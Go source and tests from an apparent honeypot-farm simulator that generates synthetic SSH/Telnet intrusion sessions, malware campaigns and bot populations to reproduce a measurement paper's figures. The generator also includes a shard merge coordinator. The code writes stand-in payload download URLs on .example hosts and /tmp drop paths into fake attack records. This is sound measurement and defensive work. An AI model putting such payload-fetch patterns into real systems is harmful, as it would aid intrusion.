	longBase, longBare := 0, 0
	for _, h := range hsBase {
		if h.Days > 100 {
			longBase++
		}
	}
	for _, h := range hsBare {
		if h.Days > 100 {
			longBare++
		}
	}
	if longBase < 10 {
		t.Errorf("baseline long-lived hashes = %d, want ≥10", longBase)
	}
	if longBare != 0 {
		t.Errorf("ablated run still has %d long-lived hashes", longBare)
	}
	if len(bare.Tags) != 0 {
		t.Errorf("ablated run should have no campaign tags, got %d", len(bare.Tags))
	}
}

func TestGenerateDurationModel(t *testing.T) {
	// Figure 7's duration shapes: >90% of NO_CMD sessions end at the
	// 3-minute timeout; NO_CRED and FAIL_LOG mostly close before 60 s;
	// a CMD+URI tail crosses 180 s.
	res := testDataset(t)
	durs := analysis.DurationECDFs(res.Store)
	if p := durs[analysis.NoCmd].P(179); p > 0.15 {
		t.Errorf("NO_CMD P(<180s) = %.2f, want <0.15 (timeout-dominated)", p)
	}
	if p := durs[analysis.NoCred].P(60); p < 0.8 {
		t.Errorf("NO_CRED P(<=60s) = %.2f, want >0.8", p)
	}
	if p := durs[analysis.FailLog].P(60); p < 0.95 {
		t.Errorf("FAIL_LOG P(<=60s) = %.2f, want >0.95", p)
	}
	if tail := 1 - durs[analysis.CmdURI].P(180); tail < 0.05 {
		t.Errorf("CMD+URI P(>180s) = %.2f, want >0.05 (timeout resets)", tail)
	}
	if tail := 1 - durs[analysis.Cmd].P(180); tail > 0.02 {
		t.Errorf("CMD P(>180s) = %.2f, want ≈0 (no resets without URIs)", tail)
	}
}

func TestGenerateDailyExtremes(t *testing.T) {
	// Section 4: daily per-honeypot activity spans a huge range
	// (94 .. 1.63M at paper scale) and the median daily farm total is
	// stable. Check the scaled analogues: nonzero bands everywhere and a
	// wide min/max spread on per-pot daily counts.
	res := testDataset(t)
	m := analysis.DailyMatrix(res.Store, 221, -1)
	minV, maxV := 1e18, 0.0
	for d := 90; d < len(m); d++ { // past the discovery ramp
		for _, v := range m[d] {
			if v < minV {
				minV = v
			}
			if v > maxV {
				maxV = v
			}
		}
	}
	if maxV < 50*math.Max(1, minV) {
		t.Errorf("daily per-pot spread max=%v min=%v, want ≥50x", maxV, minV)
	}
}

func TestGenerateRespectsDayBound(t *testing.T) {
	reg := geo.NewRegistry(geo.Config{Seed: 1})
	for _, days := range []int{5, 20, 60} {
		res, err := Generate(Config{Seed: 11, TotalSessions: 2000, Days: days, NumPots: 8, Registry: reg})
		if err != nil {
			t.Fatal(err)
		}
		if got := res.Store.NumDays(); got > days {
			t.Errorf("Days=%d: records span %d days", days, got)
		}
	}
}

// TestHashAndClientStatInvariants checks structural invariants of the
// analysis aggregates over generated data (lives here rather than in the
// analysis package to avoid an import cycle with the generator).
func TestHashAndClientStatInvariants(t *testing.T) {
	res := testDataset(t)
	hs := analysis.ComputeHashStats(res.Store, nil)
	if len(hs) == 0 {
		t.Fatal("no hashes")
	}
	for _, h := range hs {
		if h.Sessions < 1 || h.ClientIPs < 1 || h.Days < 1 || h.Honeypots < 1 {
			t.Fatalf("degenerate stat: %+v", h)
		}
		if h.ClientIPs > h.Sessions || h.Days > h.Sessions || h.Honeypots > h.Sessions {
			t.Fatalf("count invariant violated: %+v", h)
		}
		if h.FirstDay > h.LastDay || h.Days > h.LastDay-h.FirstDay+1 {
			t.Fatalf("day-span invariant violated: %+v", h)
		}
	}
	for _, c := range analysis.ComputeClientStats(res.Store, -1) {
		if c.Honeypots > c.Sessions || c.ActiveDays > c.Sessions || c.NumCategoriesSeen() < 1 {
			t.Fatalf("client invariant violated: %+v", c)
		}
	}
}
