package workload

import (
	"fmt"
	"math/rand"
	"net/netip"
	"strings"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/geo"
	"honeyfarm/internal/honeypot"
	"honeyfarm/internal/malware"
)

// campaign is a scheduled hash campaign ready to plan sessions. The
// cursor fields mutate only during the sequential planning pass; by the
// time decoration workers read a campaign it is immutable.
type campaign struct {
	label      string
	hash       string
	tag        string
	category   analysis.Category
	sessions   int
	activeDays []int
	ips        []string
	pots       []int
	commands   []honeypot.CommandRecord
	uri        string
	filePath   string // dropped-file path, precomputed from label
	user       string
	password   string
	telnetBias float64 // fraction of sessions over telnet
	ipCursor   int     // rotating day-window into ips
	potSeq     int     // first-pass coverage cursor over pots
	// Locality indexes over pots, built for URI campaigns (Figure 16(b)).
	potsByCountry   map[string][]int
	potsByContinent map[geo.Continent][]int
}

// buildCampaigns scales the paper's archetypes (Tables 4–6), the Mirai
// cluster, and a generated mid-tier into emission-ready campaigns.
func (g *generator) buildCampaigns() []*campaign {
	sessScale := float64(g.cfg.TotalSessions) / PaperTotalSessions
	var out []*campaign

	// The Mirai cluster variants share one pinned honeypot subset
	// (the paper: "they only contact 75–77 of the honeypots").
	clusterSize := malware.MiraiClusterMax
	if clusterSize > g.cfg.NumPots {
		clusterSize = g.cfg.NumPots
	}
	cluster := NewSampler(g.potHashWeights).SampleK(g.rng, clusterSize)

	clusterLabels := make(map[string]bool)
	for _, a := range malware.MiraiClusterVariants() {
		clusterLabels[a.Label] = true
	}

	for _, a := range malware.AllArchetypes() {
		c := g.scaleArchetype(a, sessScale)
		if clusterLabels[a.Label] {
			n := a.Honeypots
			if n > len(cluster) {
				n = len(cluster)
			}
			c.pots = cluster[:n]
			if c.uri != "" {
				g.buildLocality(c) // re-index over the pinned subset
			}
		}
		g.tags[c.hash] = c.tag
		out = append(out, c)
	}

	// Mid-tier: anonymous multi-week campaigns filling Figure 17's
	// recurring hash base and Figure 22's duration mid-range.
	for i := 0; i < g.cfg.MidTierCampaigns; i++ {
		out = append(out, g.midTierCampaign(i))
	}
	return out
}

// scaleArchetype converts a full-scale archetype into a scaled campaign.
func (g *generator) scaleArchetype(a malware.Archetype, sessScale float64) *campaign {
	last := a.LastDay
	if last >= g.cfg.Days {
		last = g.cfg.Days - 1
	}
	first := a.FirstDay
	if first > last {
		first = last
	}
	span := last - first + 1
	active := a.ActiveDays
	if active > span {
		active = span
	}
	days := g.pickDays(first, last, active)

	sessions := int(float64(a.Sessions) * sessScale)
	if sessions < len(days) {
		sessions = len(days)
	}
	// Honeypot coverage does not scale down with session volume: a
	// campaign the paper saw at 205 honeypots still covers 205 here, so
	// it needs at least that many sessions.
	if sessions < a.Honeypots {
		sessions = a.Honeypots
	}

	ips := a.ClientIPs
	if ips > 100 {
		ips = int(float64(a.ClientIPs) / g.cfg.IPDivisor)
		if ips < 100 {
			ips = 100
		}
	}
	if ips > sessions {
		ips = sessions
	}
	if ips < 1 {
		ips = 1
	}

	nPots := a.Honeypots
	if nPots > g.cfg.NumPots {
		nPots = g.cfg.NumPots
	}

	pots := NewSampler(g.potHashWeights).SampleK(g.rng, nPots)
	c := &campaign{
		label:      a.Label,
		hash:       a.Hash(),
		tag:        a.Tag,
		category:   analysis.Cmd,
		sessions:   sessions,
		activeDays: days,
		ips:        g.campaignIPs(ips, pots, a.URI),
		pots:       pots,
		commands:   scriptToCommands(malware.ScriptFor(a)),
		filePath:   "/tmp/." + strings.ToLower(a.Label),
		user:       a.User,
		password:   a.Password,
	}
	if a.URI {
		c.category = analysis.CmdURI
		c.uri = fmt.Sprintf("http://load.%s.example/bins/payload", strings.ToLower(a.Label))
		g.buildLocality(c)
	}
	if a.Tag == malware.TagMirai {
		c.telnetBias = 0.6
	}
	return c
}

// midTierCampaign generates one anonymous multi-week campaign.
func (g *generator) midTierCampaign(i int) *campaign {
	hash := malware.SyntheticHash(fmt.Sprintf("mid-%d-%d", g.cfg.Seed, i))
	maxSpan := 59
	if g.cfg.Days-1 < maxSpan {
		maxSpan = maxInt(1, g.cfg.Days-1)
	}
	span := 2 + g.rng.Intn(maxSpan)
	if span > g.cfg.Days {
		span = g.cfg.Days
	}
	first := g.rng.Intn(maxInt(1, g.cfg.Days-span))
	active := 1 + g.rng.Intn(span)
	days := g.pickDays(first, first+span-1, active)
	sessions := len(days) * (1 + g.rng.Intn(2))
	nips := 2 + g.rng.Intn(58)
	if nips > sessions {
		nips = sessions
	}
	npots := 8 + g.rng.Intn(70)
	if npots > g.cfg.NumPots {
		npots = g.cfg.NumPots
	}
	if sessions < npots {
		sessions = npots
	}
	uri := g.rng.Float64() < 0.1
	pots := NewSampler(g.potHashWeights).SampleK(g.rng, npots)
	c := &campaign{
		label:      fmt.Sprintf("mid-%d", i),
		hash:       hash,
		tag:        malware.TailTag(hash),
		category:   analysis.Cmd,
		sessions:   sessions,
		activeDays: days,
		ips:        g.campaignIPs(nips, pots, uri),
		pots:       pots,
		commands:   genericTemplates[g.rng.Intn(len(genericTemplates))],
		filePath:   fmt.Sprintf("/tmp/.mid-%d", i),
	}
	if uri {
		c.category = analysis.CmdURI
		c.uri = fmt.Sprintf("http://cdn-%d.example/drop", i)
		g.buildLocality(c)
	}
	return c
}

// pickDays selects n active days in [first, last], always including the
// endpoints, mostly contiguous runs with occasional pauses ("some
// attacks are active for some time, then pause and restart").
func (g *generator) pickDays(first, last, n int) []int {
	span := last - first + 1
	if n >= span {
		days := make([]int, span)
		for i := range days {
			days[i] = first + i
		}
		return days
	}
	if n <= 0 {
		n = 1
	}
	seen := map[int]struct{}{first: {}, last: {}}
	days := []int{first}
	if last != first {
		days = append(days, last)
	}
	d := first
	for len(days) < n {
		gap := 1
		if g.rng.Float64() < 0.2 {
			gap += g.rng.Intn(10)
		}
		d += gap
		if d >= last {
			d = first + 1 + g.rng.Intn(span-1)
		}
		if _, dup := seen[d]; dup {
			continue
		}
		seen[d] = struct{}{}
		days = append(days, d)
	}
	sortInts(days)
	return days
}

func sortInts(a []int) {
	for i := 1; i < len(a); i++ {
		for j := i; j > 0 && a[j] < a[j-1]; j-- {
			a[j], a[j-1] = a[j-1], a[j]
		}
	}
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// campaignIPs draws n client IPs from the global country mix. For URI
// campaigns (Figure 16(b): CMD+URI shows more geographic proximity), a
// share of the bots is recruited in the countries hosting the campaign's
// honeypots.
func (g *generator) campaignIPs(n int, pots []int, local bool) []string {
	reg := g.cfg.Registry
	var localCountries []int
	if local {
		seen := map[int]bool{}
		for _, p := range pots {
			if p < len(g.deployments) {
				if loc, ok := reg.Lookup(g.deployments[p].IP); ok {
					if ci, ok2 := countryIndex(reg, loc.Country); ok2 && !seen[ci] {
						seen[ci] = true
						localCountries = append(localCountries, ci)
					}
				}
			}
		}
	}
	out := make([]string, n)
	for i := range out {
		ci := -1
		if len(localCountries) > 0 && g.rng.Float64() < 0.4 {
			ci = localCountries[g.rng.Intn(len(localCountries))]
		}
		out[i] = geo.Uint32ToAddr(reg.SampleClientIP(g.rng, ci)).String()
	}
	return out
}

// buildLocality indexes a URI campaign's honeypots by location so each
// bot can prefer nearby targets.
func (g *generator) buildLocality(c *campaign) {
	c.potsByCountry = make(map[string][]int)
	c.potsByContinent = make(map[geo.Continent][]int)
	for _, p := range c.pots {
		if p < len(g.deployments) {
			if loc, ok := g.cfg.Registry.Lookup(g.deployments[p].IP); ok {
				c.potsByCountry[loc.Country] = append(c.potsByCountry[loc.Country], p)
				c.potsByContinent[loc.Continent] = append(c.potsByContinent[loc.Continent], p)
			}
		}
	}
}

func countryIndex(reg *geo.Registry, code string) (int, bool) {
	for i, c := range reg.Countries() {
		if c.Code == code {
			return i, true
		}
	}
	return -1, false
}

// campaignPot picks the honeypot for one campaign session: each bot IP
// works a small personal slice of the campaign's honeypot set, keeping
// individual clients narrow (Figure 12) while the campaign as a whole
// covers its full subset.
func campaignPot(c *campaign, ip string, rng *rand.Rand) int {
	h := fnv32(ip)
	span := 1 + int(h>>8)%6 // per-IP fan-out of 1–6 honeypots
	if span > len(c.pots) {
		span = len(c.pots)
	}
	start := int(h) % len(c.pots)
	return c.pots[(start+rng.Intn(span))%len(c.pots)]
}

// fnv32 is the 32-bit FNV-1a hash.
func fnv32(s string) uint32 {
	h := uint32(2166136261)
	for i := 0; i < len(s); i++ {
		h ^= uint32(s[i])
		h *= 16777619
	}
	return h
}

// scriptToCommands converts a campaign script into command records;
// path-invocations are "unknown" commands, everything else is emulated.
func scriptToCommands(script []string) []honeypot.CommandRecord {
	out := make([]honeypot.CommandRecord, len(script))
	for i, s := range script {
		known := !strings.HasPrefix(s, "/tmp/") && !strings.HasPrefix(s, "./") &&
			!strings.HasPrefix(s, "/var/tmp/")
		out[i] = honeypot.CommandRecord{Input: s, Known: known}
	}
	return out
}

// planCampaign schedules the campaign's sessions across its active days.
// Each day uses a rotating window into the campaign's IP list, so most
// campaign clients are seen on only one or two days (Figure 13), and a
// quarter of sessions are preceded by a FAIL_LOG brute-force session
// from the same client — campaign bots guess before they land, which is
// how CMD clients end up overlapping FAIL_LOG clients (Section 7.3).
//
// The intrusion's start time is drawn here, not in the decorator: its
// FAIL_LOG precursor must start minutes earlier, and the pair may land
// in different decoration shards.
func (g *generator) planCampaign(c *campaign) {
	perDay := float64(c.sessions) / float64(len(c.activeDays))
	emitted := 0
	for di, day := range c.activeDays {
		n := int(perDay*(0.7+0.6*g.rng.Float64()) + 0.5)
		if n < 1 {
			n = 1
		}
		if di == len(c.activeDays)-1 && emitted+n < c.sessions {
			n = c.sessions - emitted // make up any rounding shortfall
		}
		for i := 0; i < n; i++ {
			ip := c.ips[(c.ipCursor+i)%len(c.ips)]
			pot := g.campaignSessionPot(c, ip)
			start := g.dayStart(g.rng, day)
			if g.rng.Float64() < 0.4 {
				g.plan = append(g.plan, planned{
					kind: kindCampaignFail, cat: analysis.FailLog, day: day,
					pot: pot, ip: ip, start: start, camp: c,
				})
			}
			g.plan = append(g.plan, planned{
				kind: kindCampaign, cat: c.category, day: day,
				pot: pot, ip: ip, start: start, camp: c,
			})
		}
		c.ipCursor += n // disjoint day-windows: most bot IPs appear once
		emitted += n
	}
}

// campaignSessionPot resolves one campaign session's honeypot: the
// bot's personal slice, the URI-campaign locality bias, then the
// first-pass coverage override.
func (g *generator) campaignSessionPot(c *campaign, ip string) int {
	pot := campaignPot(c, ip, g.rng)
	// URI campaign bots prefer honeypots near home (Figure 16(b)).
	if c.uri != "" && c.potsByCountry != nil && g.rng.Float64() < 0.6 {
		if a, err := netip.ParseAddr(ip); err == nil {
			if loc, ok := g.cfg.Registry.LookupAddr(a); ok {
				if pots := c.potsByCountry[loc.Country]; len(pots) > 0 && g.rng.Float64() < 0.5 {
					pot = pots[g.rng.Intn(len(pots))]
				} else if pots := c.potsByContinent[loc.Continent]; len(pots) > 0 {
					pot = pots[g.rng.Intn(len(pots))]
				}
			}
		}
	}
	// First pass: cover the campaign's full honeypot subset exactly.
	if c.potSeq < len(c.pots) {
		pot = c.pots[c.potSeq]
		c.potSeq++
	}
	return pot
}

// decorateCampaignFail builds the brute-force session preceding a
// campaign intrusion: same client, same honeypot, minutes earlier,
// failed logins. p.start is the paired intrusion's start.
func decorateCampaignFail(rng *rand.Rand, p *planned, id uint64) *honeypot.SessionRecord {
	start := p.start.Add(-time.Duration(30+rng.Intn(600)) * time.Second)
	rec := &honeypot.SessionRecord{
		ID:            id,
		HoneypotID:    p.pot,
		Protocol:      honeypot.SSH,
		ClientIP:      p.ip,
		ClientPort:    1024 + rng.Intn(60000),
		Start:         start,
		ClientVersion: clientVersions[rng.Intn(len(clientVersions))],
		Logins:        failedLogins(rng),
		Termination:   honeypot.TermClient,
	}
	rec.End = start.Add(time.Duration(3+rng.Intn(20)) * time.Second)
	return rec
}

// decorateCampaign builds one campaign intrusion record.
func (g *generator) decorateCampaign(rng *rand.Rand, p *planned, id uint64) *honeypot.SessionRecord {
	c := p.camp
	proto := honeypot.SSH
	if rng.Float64() < c.telnetBias {
		proto = honeypot.Telnet
	}
	user, pw := c.user, c.password
	if user == "" {
		user, pw = "root", topPasswords[rng.Intn(len(topPasswords))]
	}
	rec := &honeypot.SessionRecord{
		ID:         id,
		HoneypotID: p.pot,
		Protocol:   proto,
		ClientIP:   p.ip,
		ClientPort: 1024 + rng.Intn(60000),
		Start:      p.start,
		Logins:     []honeypot.LoginAttempt{{User: user, Password: pw, Success: true}},
		Commands:   c.commands,
		Files: []honeypot.FileRecord{{
			Path: c.filePath, Hash: c.hash, Op: "create", Size: 1024,
		}},
		Termination: honeypot.TermExit,
	}
	if proto == honeypot.SSH {
		rec.ClientVersion = clientVersions[rng.Intn(len(clientVersions))]
	}
	dur := time.Duration((15 + rng.ExpFloat64()*40) * float64(time.Second))
	if c.uri != "" {
		rec.URIs = []string{c.uri}
		if rng.Float64() < 0.15 {
			dur = 180*time.Second + time.Duration(rng.ExpFloat64()*float64(100*time.Second))
		}
	}
	if dur > 178*time.Second && c.uri == "" {
		dur = 178 * time.Second
	}
	rec.End = p.start.Add(dur)
	return rec
}
