package workload

import (
	"math/rand"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/geo"
)

// actor is one client IP with a role, a personal honeypot set, and a
// schedule of active days.
type actor struct {
	ip        string
	pots      []int
	country   int // registry country index, -1 if unknown
	potCursor int // cycles pots so the fan-out is actually realized
}

// population manages per-category actor pools with churn, producing the
// paper's client-side distributions: fan-out (Figure 12), lifespan
// (Figure 13), multi-role IPs (Section 7.5), and the country mix
// (Figure 10).
type population struct {
	rng      *rand.Rand
	reg      *geo.Registry
	numPots  int
	numDays  int
	pots     *Sampler
	schedule [analysis.NumCategories][][]*actor // [cat][day] -> actors active
	cursor   [analysis.NumCategories][]int      // per-day round-robin cursor
	// ruPool is the dedicated datacenter prefix population behind the
	// paper's NO_CMD windows.
	ruPool []*actor

	actors int // total created, for reporting
}

func newPopulation(rng *rand.Rand, reg *geo.Registry, numPots, numDays int, potWeights []float64) *population {
	p := &population{
		rng:     rng,
		reg:     reg,
		numPots: numPots,
		numDays: numDays,
		pots:    NewSampler(potWeights),
	}
	for c := range p.schedule {
		p.schedule[c] = make([][]*actor, numDays)
		p.cursor[c] = make([]int, numDays)
	}
	return p
}

// fromPool returns a random actor already active in category c on day
// d, or nil when the pool is empty. Used for the cross-category client
// reuse behind the paper's multi-role IPs.
func (p *population) fromPool(c analysis.Category, d int, rng *rand.Rand) *actor {
	pool := p.schedule[c][d]
	if len(pool) == 0 {
		return nil
	}
	return pool[rng.Intn(len(pool))]
}

// newActor creates an actor starting on day d with a sampled fan-out
// and lifespan, registers it in the given categories' schedules, and
// returns it.
func (p *population) newActor(d int, cats ...analysis.Category) *actor {
	country := p.reg.SampleCountry(p.rng)
	ip := geo.Uint32ToAddr(p.reg.SampleClientIP(p.rng, country)).String()
	k := FanoutDistribution(p.rng, p.numPots)
	a := &actor{
		ip:      ip,
		pots:    p.pots.SampleK(p.rng, k),
		country: country,
	}
	p.actors++
	// A fan-out is only real if the client sends enough sessions to
	// visit it: wide scanners stay active long enough to cover their
	// personal honeypot set (Figure 12's 18% > 10 pots, 2% > half).
	lifespan := LifespanDistribution(p.rng, p.numDays)
	if k > 10 && lifespan < 12 {
		lifespan = 12 + p.rng.Intn(20)
	}
	if k > p.numPots/2 && lifespan < 60 {
		lifespan = 60 + p.rng.Intn(120)
	}
	days := p.activeDays(d, lifespan)
	for _, c := range cats {
		for _, day := range days {
			p.schedule[c][day] = append(p.schedule[c][day], a)
		}
	}
	return a
}

// activeDays picks an actor's active-day list: the start day plus
// (lifespan-1) further days, mostly clustered after the start (the
// paper finds CMD+URI clients active on consecutive days).
func (p *population) activeDays(start, lifespan int) []int {
	days := []int{start}
	if lifespan <= 1 {
		return days
	}
	seen := map[int]struct{}{start: {}}
	d := start
	for len(days) < lifespan {
		// Mostly the next day; sometimes a gap.
		gap := 1
		if p.rng.Float64() < 0.25 {
			gap += p.rng.Intn(14)
		}
		d += gap
		if d >= p.numDays {
			break
		}
		if _, dup := seen[d]; dup {
			continue
		}
		seen[d] = struct{}{}
		days = append(days, d)
	}
	return days
}

// newEphemeral creates a scan-and-go client: one day, one to three
// honeypots. The bulk of the paper's 2.1M client IPs appear exactly
// once, which is what makes small-window IP blocklists ineffective
// (Section 7.2).
func (p *population) newEphemeral(d int, c analysis.Category) *actor {
	country := p.reg.SampleCountry(p.rng)
	a := &actor{
		ip:      geo.Uint32ToAddr(p.reg.SampleClientIP(p.rng, country)).String(),
		pots:    p.pots.SampleK(p.rng, 1+p.rng.Intn(3)),
		country: country,
	}
	p.actors++
	p.schedule[c][d] = append(p.schedule[c][d], a)
	return a
}

// pick returns an actor for one category-c session on day d, creating
// actors when the day's pool is below target. target is the number of
// distinct actors the day should have (quota / sessions-per-actor).
func (p *population) pick(c analysis.Category, d, target int) *actor {
	pool := p.schedule[c][d]
	if len(pool) < target {
		return p.newActor(d, c)
	}
	i := p.cursor[c][d] % len(pool)
	p.cursor[c][d]++
	// Light randomization so per-actor session counts vary.
	if p.rng.Float64() < 0.3 {
		i = p.rng.Intn(len(pool))
	}
	return pool[i]
}

// ruActor returns an actor from the dedicated datacenter prefix pool
// (created lazily): 24 contiguous addresses in one Russian datacenter
// AS, the "single prefix" the paper traces the NO_CMD windows to.
func (p *population) ruActor() *actor {
	if len(p.ruPool) == 0 {
		var base uint32
		ases := p.reg.ASesIn("RU")
		for _, as := range ases {
			if as.Type == geo.Datacenter {
				base = as.Base
				break
			}
		}
		if base == 0 && len(ases) > 0 {
			base = ases[0].Base
		} else if base == 0 {
			base = p.reg.SampleClientIP(p.rng, -1)
		}
		for i := uint32(0); i < 24; i++ {
			k := p.numPots
			if p.numPots > 10 {
				k = 10 + p.rng.Intn(p.numPots-10)
			}
			p.ruPool = append(p.ruPool, &actor{
				ip:   geo.Uint32ToAddr(base + i).String(),
				pots: p.pots.SampleK(p.rng, k),
			})
			p.actors++
		}
	}
	return p.ruPool[p.rng.Intn(len(p.ruPool))]
}

// pot picks the honeypot for one of the actor's sessions. The first
// pass cycles the personal set (so k distinct honeypots really are
// contacted after k sessions); afterwards the choice is weighted by
// global honeypot visibility, preserving Figure 2's popularity contrast
// even for wide scanners. When spikeSet is non-empty the session routes
// there (spikes are visible at only a few honeypots).
func (p *population) potFor(a *actor, rng *rand.Rand, spikeSet []int) int {
	if len(spikeSet) > 0 {
		return spikeSet[rng.Intn(len(spikeSet))]
	}
	if a.potCursor < len(a.pots) {
		i := a.potCursor
		a.potCursor++
		return a.pots[i]
	}
	for t := 0; t < 4; t++ {
		g := p.pots.Sample(rng)
		for _, x := range a.pots {
			if x == g {
				return g
			}
		}
	}
	return a.pots[rng.Intn(len(a.pots))]
}
