package workload

import (
	"bytes"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"honeyfarm/internal/geo"
)

// checkpointTestConfig is small enough to run quickly but spans several
// decoration shards, so a truncated WAL genuinely loses work.
func checkpointTestConfig(dir string) Config {
	return Config{
		Seed: 9, TotalSessions: 20_000, Days: 40, NumPots: 30,
		Registry: geo.NewRegistry(geo.Config{Seed: 1}),
		Workers:  2, CheckpointDir: dir,
	}
}

// serialize renders a generated dataset to its canonical JSONL bytes.
func serialize(t *testing.T, cfg Config) []byte {
	t.Helper()
	res, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := res.Store.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestCheckpointResumeByteIdentical is the unit-level crash/resume
// contract: a run whose checkpoint lost its tail (torn WAL) must,
// on resume, regenerate exactly the missing shards and emit bytes
// identical to an uninterrupted, checkpoint-free run.
func TestCheckpointResumeByteIdentical(t *testing.T) {
	dir := t.TempDir()
	plainCfg := checkpointTestConfig("")
	want := serialize(t, plainCfg)

	// First pass: a complete checkpointed run.
	first := serialize(t, checkpointTestConfig(dir))
	if !bytes.Equal(first, want) {
		t.Fatal("checkpointed run differs from plain run")
	}

	// Simulate a crash that lost the WAL's tail: truncate the last
	// segment mid-frame, destroying its final batches.
	segs, err := filepath.Glob(filepath.Join(dir, "wal-*.seg"))
	if err != nil || len(segs) == 0 {
		t.Fatalf("no WAL segments written: %v", err)
	}
	sort.Strings(segs)
	last := segs[len(segs)-1]
	info, err := os.Stat(last)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(last, info.Size()*2/5); err != nil {
		t.Fatal(err)
	}

	// Resume: missing shards are re-decorated, recovered ones reused.
	resumedCfg := checkpointTestConfig(dir)
	resumedCfg.Resume = true
	resumedCfg.Workers = 3 // worker count must not matter on resume either
	resumed := serialize(t, resumedCfg)
	if !bytes.Equal(resumed, want) {
		t.Fatal("resumed run is not byte-identical to the uninterrupted run")
	}
}

// TestCheckpointRefusesForeignManifest: resuming with a different
// output-shaping configuration must fail loudly instead of splicing
// incompatible datasets.
func TestCheckpointRefusesForeignManifest(t *testing.T) {
	dir := t.TempDir()
	serialize(t, checkpointTestConfig(dir))

	other := checkpointTestConfig(dir)
	other.Seed = 10
	other.Resume = true
	if _, err := Generate(other); err == nil || !strings.Contains(err.Error(), "different configuration") {
		t.Fatalf("resume with different seed: err = %v, want fingerprint mismatch", err)
	}

	// Workers is a speed knob, not an output shaper: changing it must
	// still fingerprint-match.
	fast := checkpointTestConfig(dir)
	fast.Workers = 7
	fast.Resume = true
	if _, err := Generate(fast); err != nil {
		t.Fatalf("resume with different Workers: %v", err)
	}
}

// TestCheckpointRefusesClobber: without Resume, an existing checkpoint
// directory is an error, not a silent overwrite.
func TestCheckpointRefusesClobber(t *testing.T) {
	dir := t.TempDir()
	serialize(t, checkpointTestConfig(dir))
	if _, err := Generate(checkpointTestConfig(dir)); err == nil || !strings.Contains(err.Error(), "already holds a checkpoint") {
		t.Fatalf("second run without Resume: err = %v, want clobber refusal", err)
	}
}

// TestResumeRequiresDir: Resume without a CheckpointDir is a config
// error.
func TestResumeRequiresDir(t *testing.T) {
	cfg := checkpointTestConfig("")
	cfg.Resume = true
	if _, err := Generate(cfg); err == nil {
		t.Fatal("Resume without CheckpointDir should fail")
	}
}

// TestResumeFreshDirStartsClean: Resume against an empty directory is a
// fresh start, so crash-before-manifest restarts work unattended.
func TestResumeFreshDirStartsClean(t *testing.T) {
	dir := t.TempDir()
	cfg := checkpointTestConfig(dir)
	cfg.Resume = true
	got := serialize(t, cfg)
	want := serialize(t, checkpointTestConfig(""))
	if !bytes.Equal(got, want) {
		t.Fatal("fresh-dir resume differs from plain run")
	}
}
