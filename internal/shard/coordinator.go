package shard

// The merge coordinator: one puller goroutine per shard walks the pull
// API on a fixed cadence, installs monotonically newer partials frames,
// and a single merger goroutine folds the installed frames into a
// global snapshot. Supervision reuses the farm's generation-deduped
// restart machinery (faults.Restarter): FailAfter consecutive failures
// mark a shard down and hand it to a capped-exponential probe loop;
// the regular puller skips a down shard so the two never race.
//
// Two invariants carry the robustness story:
//
//   - Monotonic resumption: a frame whose seq is below the shard's
//     installed seq is ignored (the shard restarted and is replaying
//     its WAL); the installed state keeps serving until the shard
//     catches back up, so the merged snapshot never moves backwards.
//   - Degradation without regression: a down shard's last installed
//     frame stays in the merge, so the global snapshot keeps covering
//     every record it ever covered. The staleness is surfaced per shard
//     (ShardStatuses → /v1/healthz "degraded:shard"), never hidden.
//
// The installed unit is the frame's raw bytes, not a decoded bundle:
// accumulator Merge adopts entries by reference, so every merge decodes
// fresh copies from the bytes. That makes merges idempotent and keeps
// the installed state immutable.

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/faults"
	"honeyfarm/internal/query"
	"honeyfarm/internal/stats"
	"honeyfarm/internal/store"
)

// Config parameterizes a Coordinator.
type Config struct {
	// Shards lists the collector base URLs (e.g. "http://host:port"),
	// one per shard; shard IDs are indexes into this list. Required.
	Shards []string
	// NumPots sizes the global per-honeypot table; every shard must
	// serve bundles sized identically. Required.
	NumPots int
	// Countries declares whether shards carry a country table; a bundle
	// with mismatched shape is rejected at install time.
	Countries bool
	// Epoch is the fleet's day-bucketing epoch, surfaced through the
	// query API exactly as an engine's epoch is.
	Epoch time.Time
	// Tagger labels file hashes at materialization; nil tags "unknown".
	Tagger analysis.Tagger
	// PullEvery is the per-shard pull cadence (default 250ms).
	PullEvery time.Duration
	// FailAfter is the consecutive-failure count that marks a shard down
	// (default 3). Down shards leave the pull cadence for the probe
	// loop's capped-exponential backoff.
	FailAfter int
	// Retry shapes the probe backoff for down shards via Plan.Backoff;
	// nil uses the plan's deterministic defaults.
	Retry *faults.Plan
	// Now supplies the wall clock for per-shard last_ok staleness
	// stamps. Nil leaves the stamps zero (deterministic tests).
	Now func() time.Time
	// Client performs the pulls; nil uses a client with a 5s timeout.
	Client *http.Client
}

// shardState is the coordinator's view of one collector shard.
type shardState struct {
	url string
	up  bool
	gen int // bumped on every mark-down; stale probe attempts are dropped
	// frame is the latest installed partials frame (nil before first
	// contact). Immutable once installed; merges decode fresh copies.
	frame    []byte
	seq      uint64
	days     int
	lastOK   int64
	failures int
	lastErr  string
	// Cumulative pull accounting for /metrics: unlike failures (which
	// resets on success) these only grow.
	pulls     uint64
	pullFails uint64
}

// Coordinator supervises a shard fleet and publishes merged snapshots.
// It implements query.Source, so query.NewServer serves a merge node
// exactly as it serves a single-node engine.
type Coordinator struct {
	cfg    Config
	epoch  time.Time
	client *http.Client

	mu      sync.Mutex
	shards  []shardState
	seq     uint64           // sum of installed shard seqs
	pullLat *stats.Histogram // successful-pull latency (empty without a clock)

	cur       atomic.Pointer[query.Snapshot]
	dirty     chan struct{}
	stopCh    chan struct{}
	stopOnce  sync.Once
	restarter *faults.Restarter
	wg        sync.WaitGroup
}

// New starts the coordinator: one puller per shard, the merger, and
// the probe supervisor. The empty snapshot is published immediately, so
// readers never observe nil even before first shard contact.
func New(cfg Config) (*Coordinator, error) {
	if len(cfg.Shards) == 0 {
		return nil, errors.New("shard: Config.Shards is required")
	}
	if cfg.NumPots <= 0 {
		return nil, errors.New("shard: Config.NumPots is required")
	}
